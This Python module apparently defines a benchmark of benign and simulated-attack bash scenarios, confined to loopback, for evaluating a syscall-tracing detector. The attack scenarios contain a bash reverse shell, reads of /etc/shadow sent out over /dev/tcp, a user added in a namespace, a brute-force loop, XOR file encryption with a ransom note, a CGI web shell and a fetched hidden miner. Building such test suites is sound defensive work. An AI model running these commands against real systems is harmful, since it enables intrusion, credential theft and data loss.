"""The scenario suite: short benign workloads and attack-like behaviour, run on this machine in a
throwaway directory, loopback only, and recorded with the foundation's tracer (syscalls).

Each scenario is a bash script; {dir} is its private temp dir, {py} this Python, {port} a free
loopback port and {n} a per-repetition size, so repetitions differ a little. An attack's {step}
stands before its first real step (what comes before it is set-up: a listener that plays the
attacker's host, files to encrypt, a server to plant a web shell in): the live bench has it note
the time there with a bash builtin (run.STEP), so latency counts from the attack, not its set-up."""
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Scenario:
    name: str
    kind: str      # "benign" or "attack"
    script: str
    needs_root: bool = False


_HTTP_UP = "for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && break; sleep 0.05; done\n"
# a one-connection server: wait until it listens without connecting (a fixed sleep raced on a loaded host)
_LISTEN_UP = "for i in $(seq 200); do ss -Hltn 'sport = :{port}' | grep -q . && break; sleep 0.05; done\n"

BENIGN = [
    Scenario("gcc_build", "benign", r"""cd {dir}
for i in $(seq {n}); do printf 'int f%d(int x){{return x*%d;}}\n' $i $i > f$i.c; done
printf '#include <stdio.h>\nint f1(int);\nint main(void){{printf("%%d\\n", f1(2));return 0;}}\n' > main.c
gcc -O1 -c *.c && gcc -o prog *.o && ./prog >/dev/null
"""),
    Scenario("python_tests", "benign", r"""cd {dir}
cat > test_k.py <<'PYEOF'
import unittest, json, re
class T(unittest.TestCase):
    def test_json(self): self.assertEqual(json.loads(json.dumps({{"a": [1, 2]}})), {{"a": [1, 2]}})
    def test_re(self): self.assertTrue(re.match(r"\d+", "123"))
    def test_sum(self): self.assertEqual(sum(range({n} * 100)), ({n} * 100) * ({n} * 100 - 1) // 2)
PYEOF
{py} -m unittest -q test_k 2>/dev/null
"""),
    Scenario("git", "benign", r"""cd {dir} && git init -q r && cd r
git config user.email k@p.local && git config user.name kp
for i in $(seq {n}); do echo "line $i" >> f.txt; git add f.txt; git commit -qm "c$i"; done
git log --oneline >/dev/null; git diff HEAD~1 >/dev/null; git branch b; git status --short >/dev/null
"""),
    Scenario("sqlite", "benign", r"""cd {dir}
{{ echo "create table t(a integer, b text);"; for i in $(seq $(({n} * 40))); do echo "insert into t values($i, 'row$i');"; done; }} > in.sql
sqlite3 db.sqlite < in.sql && sqlite3 db.sqlite "select count(*), sum(a) from t where b like 'row1%';" >/dev/null
"""),
    Scenario("tar_gzip", "benign", r"""cd {dir} && mkdir -p tree/a tree/b out
for i in $(seq $(({n} * 8))); do head -c 4096 /dev/urandom > tree/a/f$i; echo "text $i" > tree/b/t$i; done
tar czf t.tgz tree && tar xzf t.tgz -C out && gzip -k tree/b/t1 && gunzip -f tree/b/t1.gz
"""),
    Scenario("http_server", "benign", r"""cd {dir} && head -c 20000 /dev/urandom > page.bin && echo hello > index.html
{py} -m http.server --bind 127.0.0.1 {port} >/dev/null 2>&1 &
""" + _HTTP_UP + r"""for i in $(seq $(({n} * 4))); do curl -s http://127.0.0.1:{port}/index.html >/dev/null; curl -s http://127.0.0.1:{port}/page.bin >/dev/null; done
kill %1; wait
"""),
    Scenario("shell_utils", "benign", r"""cd {dir}
find /usr/include -maxdepth 1 -name '*.h' | head -$(({n} * 20)) | xargs grep -l define | sort > list.txt
wc -l list.txt >/dev/null; sed 's/\.h$//' list.txt | sort -r | uniq > names.txt; ls -la > /dev/null
"""),
]

BENIGN += [
    Scenario("make_project", "benign", r"""cd {dir} && mkdir -p src
for i in $(seq {n}); do printf 'int g%d(int x){{return x+%d;}}\n' $i $i > src/g$i.c; done
printf 'SRC=$(wildcard src/*.c)\nlib.a: $(SRC:.c=.o)\n\tar rcs $@ $^\n' > Makefile
make -s -j2 && make -s -q lib.a; rm -f src/*.o; make -s
"""),
    Scenario("python_data", "benign", r"""cd {dir}
{py} - <<'PYEOF'
import json, csv, os, tempfile, hashlib, collections
rows = [{{"id": i, "v": i * {n} % 97, "name": "r%d" % i}} for i in range({n} * 300)]
with open("d.json", "w") as f: json.dump(rows, f)
with open("d.csv", "w", newline="") as f:
    w = csv.DictWriter(f, fieldnames=["id", "v", "name"]); w.writeheader(); w.writerows(rows)
c = collections.Counter(r["v"] % 10 for r in json.load(open("d.json")))
for p in ("d.json", "d.csv"): hashlib.sha256(open(p, "rb").read()).hexdigest()
os.replace("d.csv", "d.old.csv"); os.listdir(".")
PYEOF
"""),
    Scenario("text_pipeline", "benign", r"""cd {dir}
for i in $(seq $(({n} * 50))); do echo "$i user$((i % 7)) $((i * 13 % 101))"; done > log.txt
awk '{{s[$2] += $3}} END {{for (k in s) print k, s[k]}}' log.txt | sort -k2 -n > sums.txt
grep -c user3 log.txt >/dev/null; cut -d' ' -f2 log.txt | sort | uniq -c > counts.txt
sed -n '1,20p' log.txt | tr a-z A-Z > head.txt; diff -q sums.txt counts.txt >/dev/null; md5sum *.txt >/dev/null
perl -ne 'print if /user[12]/' log.txt | wc -l >/dev/null; jq -n '[range({n})] | add' >/dev/null
"""),
    Scenario("archive_tools", "benign", r"""cd {dir} && mkdir -p a/b
for i in $(seq $(({n} * 5))); do seq $i $((i * 50)) > a/b/s$i.txt; done
xz -k a/b/s1.txt && bzip2 -k a/b/s2.txt && zip -qr a.zip a && unzip -qo a.zip -d x
cp -r a c && du -sh c >/dev/null && find c -name '*.txt' -size +1k | wc -l >/dev/null
sha256sum a/b/* > sums && cmp sums sums && file a/b/s1.txt >/dev/null; rm -rf c x
"""),
    Scenario("sys_inspect", "benign", r"""cd {dir}
ps -eo pid,comm,rss >/dev/null; cat /proc/loadavg /proc/meminfo >/dev/null; uptime >/dev/null
df -h >/dev/null; id >/dev/null; whoami >/dev/null; hostname >/dev/null; date >/dev/null
ls -la /etc | head -$(({n} * 5)) >/dev/null; getent passwd root >/dev/null; uname -a >/dev/null
env | sort >/dev/null; for i in $(seq {n}); do stat /etc/hostname >/dev/null; done
"""),
    Scenario("loopback_service", "benign", r"""cd {dir}
{py} -c "
import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', {port})); s.listen(8)
for _ in range({n} * 3):
    c, _ = s.accept(); data = c.recv(4096); c.sendall(data.upper()); c.close()
" &
sleep 0.3
for i in $(seq $(({n} * 3))); do {py} -c "
import socket; c = socket.create_connection(('127.0.0.1', {port})); c.sendall(b'hello $i'); c.recv(100); c.close()"; done
wait
"""),
    Scenario("crypto_tools", "benign", r"""cd {dir}
head -c $(({n} * 20000)) /dev/urandom > blob
openssl dgst -sha256 blob >/dev/null; openssl enc -aes-256-cbc -pbkdf2 -pass pass:k -in blob -out blob.enc
openssl enc -d -aes-256-cbc -pbkdf2 -pass pass:k -in blob.enc -out blob.dec && cmp blob blob.dec
ssh-keygen -q -t ed25519 -N '' -f key -C kp >/dev/null; gpg --version >/dev/null 2>&1 || true
"""),
]

ATTACKS = [
    Scenario("reverse_shell", "attack", r"""cd {dir}
{py} -c "
import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', {port})); s.listen(1); c, _ = s.accept()
c.sendall(b'id; uname -a; cat /etc/hostname; ls /; exit\n'); c.settimeout(3)
try:
    while c.recv(4096): pass
except OSError: pass
" &
""" + _LISTEN_UP + r"""{step}bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' 2>/dev/null
wait
"""),
    Scenario("read_shadow", "attack", r"""cd {dir}
{py} -c "
import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', {port})); s.listen(1); c, _ = s.accept()
while c.recv(4096): pass
" &
{step}cat /etc/shadow /etc/passwd > loot 2>/dev/null; grep -h ':\$' /etc/shadow > hashes 2>/dev/null
ls -la /root/.ssh 2>/dev/null; base64 loot > loot.b64
""" + _LISTEN_UP + r"""bash -c 'cat loot.b64 > /dev/tcp/127.0.0.1/{port}'
wait
""", needs_root=True),
    Scenario("useradd_ns", "attack", r"""cd {dir} && mkdir -p etc && cp -a /etc/passwd /etc/shadow /etc/group /etc/gshadow /etc/login.defs etc/ 2>/dev/null
{step}unshare --mount --propagation private bash -c 'set -e; mount --bind {dir}/etc {dir}/etc
useradd --prefix {dir} -M -s /bin/bash kpevil{n}; grep -q kpevil{n} {dir}/etc/passwd'
""", needs_root=True),
    Scenario("brute_force", "attack", r"""cd {dir}
{py} -c "
import socket, hashlib; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', {port})); s.listen(16)
for _ in range(60):
    c, _ = s.accept(); line = c.makefile().readline().strip()
    ok = hashlib.sha256(line.encode()).hexdigest() == '0' * 64
    c.sendall(b'OK\n' if ok else b'FAIL\n'); c.close()
" &
""" + _LISTEN_UP + r"""{step}for p in $(seq 60); do exec 3<>/dev/tcp/127.0.0.1/{port} || break; echo "root:pass$p" >&3; read -r r <&3; exec 3>&-; done
wait
"""),
    Scenario("ransomware", "attack", r"""cd {dir} && mkdir -p docs
for i in $(seq $(({n} * 15))); do head -c 3000 /dev/urandom > docs/doc$i.txt; done
{step}{py} -c "
import os
key = os.urandom(32)
for root, _, files in os.walk('docs'):
    for f in files:
        p = os.path.join(root, f)
        with open(p, 'rb') as fh: data = fh.read()
        with open(p + '.locked', 'wb') as fh: fh.write(bytes(b ^ key[i % 32] for i, b in enumerate(data)))
        os.rename(p + '.locked', p + '.enc'); os.unlink(p)
open('README_RESTORE.txt', 'w').write('pay up')
"
"""),
    Scenario("webshell", "attack", r"""cd {dir} && mkdir -p cgi-bin
printf '#!/bin/sh\necho "Content-Type: text/plain"\necho\nid; uname -a; cat /etc/passwd | head -3; ls /tmp\n' > cgi-bin/sh.cgi
chmod +x cgi-bin/sh.cgi
{py} -c "
import http.server, sys
http.server.test(HandlerClass=http.server.CGIHTTPRequestHandler, bind='127.0.0.1', port={port})
" >/dev/null 2>&1 &
""" + _HTTP_UP + r"""{step}curl -s http://127.0.0.1:{port}/cgi-bin/sh.cgi >/dev/null; curl -s http://127.0.0.1:{port}/cgi-bin/sh.cgi >/dev/null
kill %1; wait
"""),
    Scenario("miner", "attack", r"""cd {dir} && mkdir -p srv
printf 'import hashlib, time\nt = time.time(); h = b"x"\nwhile time.time() - t < 1.0:\n    h = hashlib.sha256(h).digest()\n' > srv/m.py
{py} -m http.server --bind 127.0.0.1 {port} -d srv >/dev/null 2>&1 &
""" + _HTTP_UP + r"""{step}curl -s http://127.0.0.1:{port}/m.py -o /tmp/.kp_m_{port}.py; kill %1; wait
{py} /tmp/.kp_m_{port}.py; rm -f /tmp/.kp_m_{port}.py
"""),
]

SCENARIOS = {s.name: s for s in BENIGN + ATTACKS}
